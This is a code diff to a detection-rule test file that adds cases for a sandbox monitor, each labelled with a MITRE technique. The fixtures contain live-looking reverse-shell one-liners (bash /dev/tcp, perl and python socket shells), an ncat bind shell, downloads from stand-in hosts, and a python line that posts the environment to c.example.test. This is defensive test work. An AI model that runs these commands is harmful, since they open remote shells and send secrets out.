@@ -16,6 +16,7 @@ import {
   proxyConnection,
   resourceSample,
   samplesOverTime,
+  stepUsage,
 } from './event-fixtures.js';
 import { RuleEngine } from './rule-engine.js';
 import { loadBuiltinRules } from './rule-loader.js';
@@ -214,6 +215,26 @@ ROME.push(
   ['sh under a relay (socat EXEC, pty.spawn)', cases(processSockets(['/bin/sh'], { stdio: ['tty', 'tty', 'tty'], netSockets: 0, parentExe: '/usr/bin/socat', parentNetSockets: 1 })), 'socket-relay-shell', 'T1059.004'],
   ['bash behind a refused connection (/dev/tcp)', cases(processSockets(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'], { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'shell-opened-connection', 'T1059.004'],
   ['python dup2 one-liner behind a refused connection', cases(processSockets(PY_RSH, { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-shell-wiring', 'T1059.004'],
+  ['a step of pure computation on a loaded host (0.5 core used, 0.5 waited for)', cases(stepUsage({ cores: 0.5, demandCores: 0.97 })), 'cpu-pure-step', 'T1496'],
+  ['curl -o of a file from a refused host', cases(processSockets(['curl', '-s', '-m', '5', '-o', '/tmp/helper', 'http://dl.example.test/helper'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-download', 'T1105'],
+  ['wget from a raw address, refused', cases(processSockets(['wget', '-q', '-T', '3', '-O', '/tmp/r', 'http://203.0.113.9:8080/r'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-download', 'T1105'],
+  ['curl -T of an archive to a refused host', cases(processSockets(['curl', '-s', '-T', '/tmp/ws.tgz', 'http://drop.example.test/upload'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-upload', 'T1048'],
+  ['python posting the environment, refused', cases(processSockets(['python3', '-c', 'import os,urllib.request as u\nu.urlopen("http://c.example.test/x", data=str(dict(os.environ)).encode())'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-upload', 'T1048'],
+  [
+    'perl script written by its step, refused',
+    cases(processSockets(['perl', 'setup.pl'], { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'], ancestorsText: 'timeout 5 perl setup.pl\nbash -c printf \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");\' > setup.pl && timeout 5 perl setup.pl' })),
+    'refused-script-shell-wiring',
+    'T1059',
+  ],
+  [
+    'python script written by its step, refused',
+    cases(processSockets(['python3', 'helper.py'], { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'], ancestorsText: 'bash -c printf \'import socket,subprocess\\ns=socket.create_connection(("203.0.113.9",443))\\nsubprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)\' > helper.py && python3 helper.py' })),
+    'refused-shell-wiring-python',
+    'T1059.006',
+  ],
+  ['a listener left by its step (finding)', cases(processSockets(['python3', '-m', 'http.server', '8000'], { via: 'listen', stdio: ['file', 'file', 'file'], listenPorts: [8000], remote: null })), 'listening-socket', 'T1571'],
+  ['ncat -l -e /bin/sh waiting for its peer', cases(processSockets(['ncat', '-l', '4445', '-e', '/bin/sh'], { via: 'listen', stdio: ['pipe', 'pipe', 'pipe'], listenPorts: [4445], remote: null })), 'bind-shell-listener', 'T1059.004'],
+  ['a type check that kept a core busy (finding)', cases(stepUsage({ peakMemoryBytes: 450e6, userShare: 0.96 })), 'cpu-sustained-step', 'T1496'],
 );
 
 // reads seen by fanotify (monitor/file/): bait and the home's real credential files
@@ -270,6 +291,20 @@ const BENIGN: [string, GuardEvent[]][] = [
   ]],
   // make -j2 keeps two cores busy while its step runs: not a step-outliving process.
   ['make -j2', [processStart(['make', '-s', '-j2']), processStart(['cc', '-O1', '-o', 'a', 'burn.c']), processStart(['./a'], { exe: '/workspace/c/a' }), ...samplesOverTime(30, { stepRunning: true, cpuCores: 2.0 })]],
+  // Builds and test runs that keep a core busy for a whole step: a finding at most (cpu-sustained-step), never the pure-CPU alert.
+  ['tsc --noEmit on a big project: one node process, 450 MiB', [stepUsage({ wallMs: 40_000, execs: 3, userShare: 0.96, peakMemoryBytes: 450e6 })]],
+  ['make: a compiler per file', [stepUsage({ wallMs: 20_000, execs: 120, userShare: 0.82, peakMemoryBytes: 80e6 })]],
+  ['a test suite in one process that reads and writes files', [stepUsage({ wallMs: 12_000, execs: 2, userShare: 0.88, peakMemoryBytes: 60e6 })]],
+  ['curl of a docs page from a host not on the allowlist, printed (finding only)', [processSockets(['curl', '-sSL', 'https://docs.example.test/guide'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })]],
+  ['npm install, one registry host refused', [processSockets(['node', '/usr/bin/npm', 'install'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'], ancestorsText: 'bash -c npm install' })]],
+  ['gzip -9 of a large file: one program, all user time, megabytes through it', [stepUsage({ wallMs: 23_000, execs: 4, userShare: 0.99, ioPerCpuSecond: 4_400_000, peakMemoryBytes: 20e6 })]],
+  ['dev servers left listening (findings only)', [
+    processSockets(['node', 'server.js'], { via: 'listen', stdio: ['file', 'file', 'file'], listenPorts: [3001], remote: null }),
+    processSockets(['php', '-S', '127.0.0.1:8002', '-t', 'pub'], { via: 'listen', stdio: ['file', 'file', 'file'], listenPorts: [8002], remote: null }),
+    processSockets(['socat', '-u', 'TCP-LISTEN:8005,bind=127.0.0.1,reuseaddr', 'OPEN:/tmp/recv.txt,creat'], { via: 'listen', stdio: ['pipe', 'pipe', 'pipe'], listenPorts: [8005], remote: null }),
+  ]],
+  ['a short step, busy but brief', [stepUsage({ wallMs: 3000 })]],
+  ['a step that mostly waited (sleep, network)', [stepUsage({ cores: 0.05, demandCores: 0.06 })]],
   ['gcc', [processStart(['gcc', '-O2', '-Wall', '-o', 'app', 'main.c']), processStart(['./app'], { exe: '/workspace/app' })]],
   ['pytest', [processStart(['python3', '-m', 'pytest', '-q'], { exe: '/usr/bin/python3.12' })]],
   ['go test (binaries under /tmp/go-build)', [processStart(['/tmp/go-build123/b001/pkg.test', '-test.v'])]],
